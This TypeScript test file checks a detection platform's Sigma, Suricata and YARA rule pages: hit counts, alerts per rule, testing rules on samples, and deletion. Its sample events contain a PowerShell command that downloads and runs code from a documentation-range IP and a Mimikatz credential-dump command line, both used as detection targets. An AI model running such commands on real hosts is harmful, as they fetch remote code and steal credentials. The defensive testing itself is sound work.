import type {
  Alert,
  IngestTokenCreated,
  ListAnswer,
  Rule,
  RuleImportAnswer,
  RuleTestAnswer,
  SystemLog,
} from '@vigil/contract';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Errors } from './helpers/auth-helpers';
import type { TestClient } from './helpers/http-client';
import { buildCompany, buildUser, startTestApp, type TestApp } from './helpers/test-app';

/*
 * What the rule pages use besides the store itself: hit counts in the list, the alerts a rule
 * raised (alert filter `rule_id`), trying a rule text on a sample, and deleting a rule.
 */

let t: TestApp;
let alpha: number;
let beta: number;
let admin: TestClient;
let alphaUser: TestClient;
let betaUser: TestClient;

const actions = ['view', 'add', 'change', 'delete', 'import'];
async function userOf(name: string, companyId: number): Promise<TestClient> {
  const user = await buildUser(t.db, {
    username: name,
    companyId,
    permissions: [
      ...['rules/suricata', 'rules/sigma', 'rules/yara'].map((basename) => ({ basename, actions })),
      { basename: 'alerts', actions: ['view'] },
    ],
  });
  const client = t.client();
  await client.signIn(user.username, user.password);
  return client;
}

const sigmaRule = (id: string, title: string, needle: string) => `title: ${title}
id: ${id}
status: test
description: Finds ${title}
author: Jane Detection
license: DRL-1.1
tags:
  - attack.execution
  - attack.t1059.001
logsource:
  product: windows
  category: process_creation
detection:
  selection:
    Image|endswith: '\\powershell.exe'
    CommandLine|contains: '${needle}'
  condition: selection
level: high
`;

/** A Sysmon process creation as winlogbeat ships it (EVTX-JSON shape). */
const processEvent = (commandLine: string, host = 'ws-17.corp.example') =>
  JSON.stringify({
    '@timestamp': new Date().toISOString(),
    winlog: {
      channel: 'Microsoft-Windows-Sysmon/Operational',
      event_id: 1,
      computer_name: host,
      provider_name: 'Microsoft-Windows-Sysmon',
      event_data: {
        Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        CommandLine: commandLine,
        ParentImage: 'C:\\Windows\\explorer.exe',
        User: 'CORP\\jdoe',
        ProcessId: '4242',
      },
    },
  });

const importFiles = (client: TestClient, kind: string, files: { name: string; content: string }[], extra = {}) =>
  client.post<RuleImportAnswer>(`/api/rules/${kind}/import/`, { files, ...extra });
const rulesOf = async (client: TestClient, kind: string, filters: object = {}) =>
  (await client.post<ListAnswer<Rule>>(`/api/rules/${kind}/check/`, filters)).body.results;

beforeAll(async () => {
  t = await startTestApp();
  alpha = await buildCompany(t.db, 'Alpha Tools');
  beta = await buildCompany(t.db, 'Beta Tools');
  admin = await t.admin();
  alphaUser = await userOf('alpha-detection', alpha);
  betaUser = await userOf('beta-detection', beta);
});
afterAll(async () => {
  await t?.close();
});

describe('rule hits and the alerts a rule raised', () => {
  it('counts hits in the list for the caller’s companies and finds the rule’s alerts by rule_id', async () => {
    const shared = sigmaRule('5a0c5e1e-0000-4000-8000-00000000a001', 'Encoded PowerShell download', 'DownloadString');
    expect((await importFiles(admin, 'sigma', [{ name: 'shared.yml', content: shared }])).body.created).toBe(1);
    const [rule] = await rulesOf(admin, 'sigma', { search: 'Encoded PowerShell download' });
    expect(rule).toMatchObject({ hits_30d: 0, last_hit_at: null });

    const token = await admin.post<IngestTokenCreated>('/api/ingest/tokens/', { name: 'wef', company_id: alpha });
    const sent = await fetch(`${t.url}/api/ingest/endpoint/`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-ndjson', authorization: `Bearer ${token.body.key}` },
      body: [
        processEvent("powershell -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"),
        processEvent('powershell -c Get-Date'),
      ].join('\n'),
    });
    expect(sent.status).toBe(200);

    const [seenByAlpha] = await rulesOf(alphaUser, 'sigma', { search: 'Encoded PowerShell download' });
    expect(seenByAlpha!.hits_30d).toBe(1);
    expect(seenByAlpha!.last_hit_at).not.toBeNull();
    // Beta's users see the same rule for all companies, with none of alpha's hits.
    const [seenByBeta] = await rulesOf(betaUser, 'sigma', { search: 'Encoded PowerShell download' });
    expect(seenByBeta).toMatchObject({ id: rule!.id, hits_30d: 0, last_hit_at: null });

    const alerts = await alphaUser.post<ListAnswer<Alert>>('/api/alerts/check/', { rule_id: rule!.id });
    expect(alerts.status).toBe(200);
    expect(alerts.body.results).toHaveLength(1);
    expect(alerts.body.results[0]!.detection).toMatchObject({
      engine: 'sigma',
      storedRuleId: rule!.id,
      author: 'Jane Detection',
      licence: 'DRL-1.1',
    });
    expect((await betaUser.post<ListAnswer<Alert>>('/api/alerts/check/', { rule_id: rule!.id })).body.results).toEqual(
      [],
    );
    const bad = await alphaUser.post<Errors>('/api/alerts/check/', { rule_id: 'x' });
    expect(bad.status).toBe(400);
    expect(bad.body.errors.rule_id).toBeDefined();
  });
});

describe('trying a rule on a sample', () => {
  const rule = sigmaRule('5a0c5e1e-0000-4000-8000-00000000a002', 'Mimikatz on the command line', 'sekurlsa::');

  it('Sigma: says which rule matched the event and why another did not', async () => {
    const other = `title: Network connection by Word
id: 5a0c5e1e-0000-4000-8000-00000000a003
logsource:
  product: windows
  category: network_connection
detection:
  selection:
    Image|endswith: '\\winword.exe'
  condition: selection
level: medium
`;
    const event = processEvent('powershell -c "Invoke-Mimikatz sekurlsa::logonpasswords"');
    const answer = await alphaUser.post<RuleTestAnswer>('/api/rules/sigma/test/', { source: rule, event });
    expect(answer.status).toBe(200);
    expect(answer.body.rules.map((r) => r.title)).toEqual(['Mimikatz on the command line']);
    expect(answer.body.problems).toEqual([]);
    expect(answer.body.matched).toBe(true);
    expect(answer.body.matches).toHaveLength(1);
    expect(answer.body.matches[0]!.title).toBe('Mimikatz on the command line');
    expect(answer.body.matches[0]!.details.join('\n')).toMatch(/CommandLine: .*sekurlsa::logonpasswords/);
    expect(answer.body.notes).toContainEqual({
      kind: 'event_read',
      format: 'ecs',
      action: 'process-create',
      channel: 'Microsoft-Windows-Sysmon/Operational',
      code: '1',
    });
    expect(answer.body.notes).toContainEqual({
      kind: 'log_sources',
      sources: expect.arrayContaining(['product:windows', 'category:process_creation']),
    });

    const network = await alphaUser.post<RuleTestAnswer>('/api/rules/sigma/test/', { source: other, event });
    expect(network.body.matched).toBe(false);
    expect(network.body.notes).toContainEqual({
      kind: 'log_source_excludes',
      rule: '5a0c5e1e-0000-4000-8000-00000000a003',
      title: 'Network connection by Word',
      source: 'category:network_connection',
    });

    const miss = await alphaUser.post<RuleTestAnswer>('/api/rules/sigma/test/', {
      source: rule,
      event: processEvent('powershell -c Get-Date'),
    });
    expect(miss.body).toMatchObject({ matched: false, matches: [] });
    expect(miss.body.notes).toContainEqual({
      kind: 'detection_no_match',
      rule: '5a0c5e1e-0000-4000-8000-00000000a002',
      title: 'Mimikatz on the command line',
    });
  });

  it('Sigma: a rule the engine cannot run and an unreadable event are explained', async () => {
    const correlation = `title: Many failed logons
id: 5a0c5e1e-0000-4000-8000-00000000a004
correlation:
  type: event_count
  rules: [failed_logon]
  group-by: [TargetUserName]
  timespan: 5m
  condition:
    gte: 10
`;
    const answer = await alphaUser.post<RuleTestAnswer>('/api/rules/sigma/test/', {
      source: correlation,
      event: processEvent('whoami'),
    });
    expect(answer.status).toBe(200);
    expect(answer.body.matched).toBe(false);
    expect(answer.body.problems.length).toBeGreaterThan(0);
    expect(answer.body.problems[0]!.reason).toMatch(/correlation/i);

    const noEvent = await alphaUser.post<Errors>('/api/rules/sigma/test/', { source: rule });
    expect(noEvent.status).toBe(400);
    expect(noEvent.body.errors.event![0]).toMatch(/Paste one endpoint event/);
    const garbage = await alphaUser.post<Errors>('/api/rules/sigma/test/', { source: rule, event: '{"not json' });
    expect(garbage.status).toBe(400);
    expect(garbage.body.errors.event![0]).toMatch(/cannot be read/);
    const nul = await alphaUser.post<Errors>('/api/rules/sigma/test/', { source: `${rule}\u0000`, event: '{}' });
    expect(nul.status).toBe(400);
    expect(nul.body.errors.source).toBeDefined();
  });

  it('Suricata: tells whether an EVE alert is one of the signature’s alerts', async () => {
    const source =
      'alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"ET TROJAN Test beacon"; flow:established,to_server; ' +
      'content:"/gate.php"; http_uri; classtype:trojan-activity; sid:2990001; rev:3;)';
    const eve = (sid: number, rev: number) =>
      JSON.stringify({
        timestamp: new Date().toISOString(),
        event_type: 'alert',
        src_ip: '10.1.17.215',
        src_port: 50123,
        dest_ip: '203.0.113.9',
        dest_port: 80,
        proto: 'TCP',
        alert: { action: 'allowed', gid: 1, signature_id: sid, rev, signature: 'ET TROJAN Test beacon', severity: 1 },
      });
    const hit = await alphaUser.post<RuleTestAnswer>('/api/rules/suricata/test/', { source, event: eve(2990001, 2) });
    expect(hit.status).toBe(200);
    expect(hit.body.matched).toBe(true);
    expect(hit.body.matches[0]).toMatchObject({ rule: '1:2990001', title: 'ET TROJAN Test beacon' });
    expect(hit.body.notes).toContainEqual({ kind: 'other_revision', rule: '1:2990001', sensor: 2, text: 3 });
    expect(hit.body.matches[0]!.details).toEqual(['gid 1, sid 2990001, rev 3', 'classtype: trojan-activity']);

    const other = await alphaUser.post<RuleTestAnswer>('/api/rules/suricata/test/', { source, event: eve(2990002, 1) });
    expect(other.body.matched).toBe(false);
    expect(other.body.notes).toContainEqual({ kind: 'no_rule_for_alert' });

    const broken = await alphaUser.post<RuleTestAnswer>('/api/rules/suricata/test/', {
      source: 'alert tcp any any -> any any (msg:"no sid";)',
    });
    expect(broken.status).toBe(200);
    expect(broken.body.rules).toEqual([]);
    expect(broken.body.problems[0]!.reason).toMatch(/sid/);
  });

  it('YARA: scans the file with the rule text and names the strings and offsets', async () => {
    const source = `rule Test_Dropper : dropper {
  meta:
    author = "Vigil tests"
  strings:
    $mz = { 4D 5A }
    $url = "http://198.51.100.7/payload" ascii
  condition:
    $mz at 0 and $url
}`;
    const content = Buffer.concat([
      Buffer.from('MZ\x90\x00', 'latin1'),
      Buffer.from(' .. http://198.51.100.7/payload ..'),
    ]);
    const hit = await alphaUser.post<RuleTestAnswer>('/api/rules/yara/test/', {
      source,
      file: { name: 'invoice.exe', content_base64: content.toString('base64') },
    });
    expect(hit.status).toBe(200);
    expect(hit.body.matched).toBe(true);
    expect(hit.body.matches[0]!.title).toBe('Test_Dropper');
    expect(hit.body.matches[0]!.details).toEqual(
      expect.arrayContaining(['tags: dropper', '$mz @ 0 (2)', '$url @ 8 (27)']),
    );
    const miss = await alphaUser.post<RuleTestAnswer>('/api/rules/yara/test/', {
      source,
      file: { name: 'notes.txt', content_base64: Buffer.from('hello').toString('base64') },
    });
    expect(miss.body).toMatchObject({ matched: false, matches: [] });

    const broken = await alphaUser.post<RuleTestAnswer>('/api/rules/yara/test/', {
      source: 'rule broken { condition: $missing }',
      file: { name: 'a.bin', content_base64: '' },
    });
    expect(broken.status).toBe(200);
    expect(broken.body.matched).toBe(false);
    expect(broken.body.problems[0]!.reason).toMatch(/missing/);

    const noFile = await alphaUser.post<Errors>('/api/rules/yara/test/', { source });
    expect(noFile.status).toBe(400);
    expect(noFile.body.errors.file).toBeDefined();
    const notBase64 = await alphaUser.post<Errors>('/api/rules/yara/test/', {
      source,
      file: { name: 'a.bin', content_base64: '@@@' },
    });
    expect(notBase64.status).toBe(400);
  });

  it('refuses random bytes as a rule text or an event with a clear answer', async () => {
    for (let i = 0; i < 20; i++) {
      const bytes = Buffer.from(Array.from({ length: 64 }, () => Math.floor(Math.random() * 256)));
      const text = bytes.toString('latin1');
      for (const kind of ['sigma', 'suricata'] as const) {
        const answer = await alphaUser.post<RuleTestAnswer | Errors>(`/api/rules/${kind}/test/`, {
          source: text,
          event: text,
        });
        expect([200, 400]).toContain(answer.status);
        expect(JSON.stringify(answer.body)).not.toContain('\u0000');
      }
    }
  });
});

describe('deleting a rule', () => {
  it('lets a customer delete its own rule, not the provider’s, and staff delete any; each audited', async () => {
    const own = sigmaRule('5a0c5e1e-0000-4000-8000-00000000a010', 'Alpha own rule', 'alpha-own');
    const shared = sigmaRule('5a0c5e1e-0000-4000-8000-00000000a011', 'Provider shared rule', 'provider-shared');
    expect((await importFiles(alphaUser, 'sigma', [{ name: 'own.yml', content: own }])).body.created).toBe(1);
    expect((await importFiles(admin, 'sigma', [{ name: 'shared.yml', content: shared }])).body.created).toBe(1);
    const [ownRule] = await rulesOf(alphaUser, 'sigma', { search: 'Alpha own rule' });
    const [sharedRule] = await rulesOf(alphaUser, 'sigma', { search: 'Provider shared rule' });

    expect((await betaUser.delete(`/api/rules/sigma/${ownRule!.id}/`)).status).toBe(404);
    expect((await alphaUser.delete(`/api/rules/yara/${ownRule!.id}/`)).status).toBe(404);
    const refused = await alphaUser.delete<{ detail: string }>(`/api/rules/sigma/${sharedRule!.id}/`);
    expect(refused.status).toBe(403);
    expect(refused.body.detail).toMatch(/turn it off for your company/);

    expect((await alphaUser.delete(`/api/rules/sigma/${ownRule!.id}/`)).status).toBe(204);
    expect((await alphaUser.get(`/api/rules/sigma/${ownRule!.id}/`)).status).toBe(404);
    expect((await alphaUser.delete(`/api/rules/sigma/${ownRule!.id}/`)).status).toBe(404);
    expect((await admin.delete(`/api/rules/sigma/${sharedRule!.id}/`)).status).toBe(204);
    expect(await rulesOf(alphaUser, 'sigma', { search: 'Provider shared rule' })).toEqual([]);

    const logs = await admin.post<ListAnswer<SystemLog>>('/api/system_logs/check/', { action: 'delete' });
    const deletions = logs.body.results.filter((l) => l.object_type === 'sigma_rule');
    expect(deletions.map((l) => l.object_id).sort()).toEqual([String(ownRule!.id), String(sharedRule!.id)].sort());
  });
});
